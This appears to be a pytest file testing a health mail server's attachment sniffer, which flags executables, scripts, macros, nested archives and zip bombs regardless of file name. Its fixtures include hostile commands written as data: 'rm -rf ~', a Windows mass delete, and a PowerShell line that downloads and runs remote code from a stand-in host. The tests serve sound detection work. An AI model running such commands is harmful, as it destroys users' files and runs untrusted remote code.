"""Attachments are what their bytes are: executables and scripts are found under any
name and inside zips; allowed kinds are recognised."""

from __future__ import annotations

import struct

import pytest

from mailserver.health.attachments import (
    CDA,
    DICOM,
    EXECUTABLE,
    HL7V2,
    JPEG,
    MACRO,
    PDF,
    PNG,
    SCRIPT,
    TEXT,
    XDM,
    ZIP,
    sniff,
)
from tests import xdm_fixtures as fx


def pe_executable() -> bytes:
    header = bytearray(b"MZ" + bytes(62) + bytes(64))
    header[60:64] = struct.pack("<I", 128)
    return bytes(header) + b"PE\x00\x00" + bytes(200)


ELF = b"\x7fELF\x02\x01\x01" + bytes(100)
MACHO = b"\xcf\xfa\xed\xfe" + bytes(100)


@pytest.mark.parametrize(("data", "name", "kind"), [
    (fx.PDF, "cr.pdf", PDF),
    (b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(50), "radio.jpg", JPEG),
    (b"\x89PNG\r\n\x1a\n" + bytes(50), "ecg.png", PNG),
    (bytes(128) + b"DICM" + bytes(50), "scanner.dcm", DICOM),
    (b"MSH|^~\\&|LIMS|LABO|DPI|HOP|20261120||ORU^R01|1|P|2.5\r", "res.hl7", HL7V2),
    ("Compte rendu : hémoglobine normale.\n".encode(), "cr.txt", TEXT),
    ("Compte rendu : h\xe9moglobine normale.\n".encode("latin-1"), "cr.txt", TEXT),
    (fx.cda(), "cr.xml", CDA),
    (fx.package(), "IHE_XDM.zip", XDM),
    (fx.zip_of({"a.txt": b"hello"}), "photos.zip", ZIP),
])
def test_allowed_kinds_are_recognised(data: bytes, name: str, kind: str) -> None:
    found = sniff(data, name)
    assert (found.kind, found.dangerous) == (kind, False)


@pytest.mark.parametrize(("data", "name", "kind"), [
    (pe_executable(), "resultats.pdf", EXECUTABLE),  # an executable renamed .pdf
    (ELF, "image.png", EXECUTABLE),
    (MACHO, "notes.txt", EXECUTABLE),
    (b"#!/bin/sh\nrm -rf ~\n", "lisez-moi.txt", SCRIPT),
    (b'Set s = CreateObject("WScript.Shell")\ns.Run "calc"\n', "facture.txt", SCRIPT),
    (b"@echo off\r\ndel /q C:\\*\r\n", "notes.txt", SCRIPT),
    (b"IEX (New-Object Net.WebClient).DownloadString('http://x')", "a.txt", SCRIPT),
    (b"var x = 1;", "ordonnance.js", SCRIPT),  # by extension, even harmless
    (fx.PDF, "ordonnance.pdf.exe", SCRIPT),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100) + "_VBA_PROJECT".encode("utf-16-le"),
     "courrier.doc", MACRO),
    (fx.zip_of({"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": b"x"}),
     "courrier.docx", MACRO),
    (fx.zip_of({"META-INF/MANIFEST.MF": b"Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"}),
     "outil.zip", EXECUTABLE),
])
def test_dangerous_content_is_found_whatever_its_name(data: bytes, name: str, kind: str) -> None:
    found = sniff(data, name)
    assert found.kind == kind and found.dangerous and found.why


def test_script_or_executable_inside_a_zip_even_nested() -> None:
    inner = fx.zip_of({"run.ps1.txt": b"powershell -EncodedCommand SQBFAFgA"})
    assert sniff(inner, "docs.zip").kind == SCRIPT
    found = sniff(fx.zip_of({"docs/inner.zip": fx.zip_of({"setup.pdf": pe_executable()})}),
                  "archive.zip")
    assert found.kind == EXECUTABLE and "inside a zip" in found.why
    xdm_with_script = fx.package(extra={"IHE_XDM/SUBSET01/SCRIPT.VBS": b"MsgBox 1"})
    assert sniff(xdm_with_script, "IHE_XDM.zip").dangerous


def test_zip_nesting_and_bombs_are_problems() -> None:
    deep = fx.zip_of({"a.zip": fx.zip_of({"b.zip": fx.zip_of({"c.txt": b"x"})})})
    assert [p.code for p in sniff(deep, "deep.zip").problems] == ["ZIP-DEPTH"]
    bomb = fx.zip_of({"zeros.txt": bytes(40 * 1024 * 1024)})
    assert [p.code for p in sniff(bomb, "x.zip").problems] == ["ZIP-BOMB"]
